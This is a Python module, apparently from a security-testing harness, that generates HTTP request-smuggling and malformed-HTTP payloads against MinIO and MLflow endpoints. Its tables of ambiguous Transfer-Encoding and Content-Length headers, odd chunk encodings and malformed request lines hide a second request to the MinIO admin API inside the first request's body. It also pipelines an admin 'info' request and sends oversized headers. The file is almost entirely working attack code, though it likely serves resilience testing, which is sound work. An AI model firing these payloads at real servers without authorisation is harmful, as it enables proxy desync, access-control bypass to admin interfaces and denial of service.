"""Requests that two readers could take for different ones, and what is not quite HTTP: tables as in attacks.py."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

from .attacks import BUCKET, Attack, request

CHUNKED = "Transfer-Encoding: chunked"

CODINGS = (
    "Transfer-Encoding: xchunked",
    " Transfer-Encoding: chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding:\x0bchunked",
    "Transfer-Encoding: \x0cchunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, chunked",
    'Transfer-Encoding: "chunked"',
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: CHUNKED",
    "transfer-encoding: cHuNkEd",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding: ch\r\n unked",
    "Transfer_Encoding: chunked",
    "Transfer-Encoding",
    "Transfer-Encoding:",
    "Transfer-Encoding: gzip, chunked",
    "X: x\nTransfer-Encoding: chunked",
    "X: x\rTransfer-Encoding: chunked",
    "X: x\0Transfer-Encoding: chunked",
    "TE: chunked",
    CHUNKED,
)
LENGTHS = (
    "Content-Length: {n}\r\nContent-Length: 0",
    "Content-Length: 0\r\nContent-Length: {n}",
    "Content-Length: {n}\r\nContent-Length: {n}",
    "Content-Length: +{n}",
    "Content-Length: -{n}",
    "Content-Length: 0x{n}",
    "Content-Length: {n}, {n}",
    "Content-Length: {n} 0",
    "Content-Length: {n}\t",
    "Content-Length : {n}",
    "Content-Length: 0{n}",
    "Content-Length: 99999999999999999999",
    "Content-Length:\r\n {n}",
    "X: x\nContent-Length: 0",
    "Content_Length: 0",
    "Content-Length:",
)
CHUNKS = (
    b"0\r\n\r\n",
    b"0\n\n",
    b"0;x=y\r\n\r\n",
    b"0;\n\r\n",
    b"1;x\r\nA\r\n0\r\n\r\n",
    b"1 \r\nA\r\n0\r\n\r\n",
    b"0x1\r\nA\r\n0\r\n\r\n",
    b"+1\r\nA\r\n0\r\n\r\n",
    b"-1\r\nA\r\n0\r\n\r\n",
    b"1\nA\n0\n\n",
    b"1\r\nAB\r\n0\r\n\r\n",
    b"1\r\nA0\r\n\r\n",
    b"fffffffffffffffff\r\nA\r\n0\r\n\r\n",
    b"10000000000000000\r\nA\r\n0\r\n\r\n",
    b"1\r\nA\r\n0\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n",
    b"1\r\nA\r\n0\r\nX: y\n\r\n",
    b"1;" + b"x" * 9000 + b"\r\nA\r\n0\r\n\r\n",
    b"\r\n0\r\n\r\n",
)
INNER = b"GET /minio/admin/v3/smuggled HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\nx="
OUTER = (
    f"PUT /{BUCKET}/smuggle",
    "POST /api/2.0/mlflow/experiments/search",
    "PUT /api/2.0/mlflow-artifacts/artifacts/x/y",
)


def smuggled() -> Iterator[Attack]:
    """A second request in what one reader takes for the first one's body and another one not."""
    for outer, version in product(OUTER, ("HTTP/1.1", "HTTP/1.0")):
        for coding in CODINGS:
            for length in (f"Content-Length: {len(INNER) + 5}", "Content-Length: 4", ""):
                yield _smuggle(outer, version, [coding, length], b"0\r\n\r\n" + INNER)
        for length in LENGTHS:
            told = length.replace("{n}", str(len(INNER)))
            yield _smuggle(outer, version, [told], INNER)
            yield _smuggle(outer, version, [told, CHUNKED], b"0\r\n\r\n" + INNER)
    for outer, chunks in product(OUTER, CHUNKS):
        yield _smuggle(outer, "HTTP/1.1", [CHUNKED], chunks + INNER)


def _smuggle(outer: str, version: str, headers: list[str], body: bytes) -> Attack:
    head = [f"{outer} {version}", "Host: {host}", "{auth}", "Content-Type: application/json", *filter(None, headers)]
    data = "\r\n".join(head).encode("latin-1") + b"\r\n\r\n" + body
    return Attack(f"{outer} {version} {headers} {body[:40]!r}", data, wait=0.4)


def odd() -> Iterator[Attack]:
    """What is not quite HTTP/1.1."""
    plain = f"GET /{BUCKET}/x"
    lines = (
        f"{plain} HTTP/0.9",
        f"{plain} HTTP/1.2",
        f"{plain} HTTP/2.0",
        f"{plain} HTTP/11.1",
        f"{plain} http/1.1",
        f"{plain}",
        f"{plain}  HTTP/1.1",
        f"{plain} HTTP/1.1 HTTP/1.1",
        f"GET  /{BUCKET}/x HTTP/1.1",
        f" GET /{BUCKET}/x HTTP/1.1",
        f"GET /{BUCKET}/x\x0b HTTP/1.1",
        f"GET\0 /{BUCKET}/x HTTP/1.1",
        f"GET /{BUCKET}/{'a' * 40000} HTTP/1.1",
        "GET * HTTP/1.1",
        "OPTIONS * HTTP/1.1",
        "PRI * HTTP/2.0",
        "GET HTTP/1.1",
        "GET / / HTTP/1.1",
    )
    for line in lines:
        yield Attack(line[:60], f"{line}\r\nHost: {{host}}\r\nConnection: close\r\n\r\n".encode("latin-1"), wait=0.4)
    yield Attack("HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 9, wait=0.4)
    yield Attack("bare line ends", f"{plain} HTTP/1.1\nHost: {{host}}\n{CHUNKED}\n\n0\n\n".encode() + INNER, wait=0.4)
    many = "\r\n".join(f"X-{n}: {'a' * 900}" for n in range(400))
    for header in (f"X: {'a' * 40000}", many, ":x", "X\r\n: y", "\x01: 2"):
        yield Attack(f"header {header[:20]!r}", request("GET", f"/{BUCKET}/x", header), wait=1.0)
    for told in ("100-continue", "200-ok", "100-continue, 100-continue"):
        yield Attack(f"Expect {told}", request("PUT", f"/{BUCKET}/x", f"Expect: {told}", body=INNER), wait=1.0)
    two = request("GET", f"/{BUCKET}/x").replace(b"Connection: close\r\n", b"")
    yield Attack("pipelined", two * 3 + request("GET", "/minio/admin/v3/info") + two, wait=1.0)
    yield Attack("pipelined HTTP/1.0", two.replace(b"HTTP/1.1", b"HTTP/1.0") + INNER, wait=0.4)
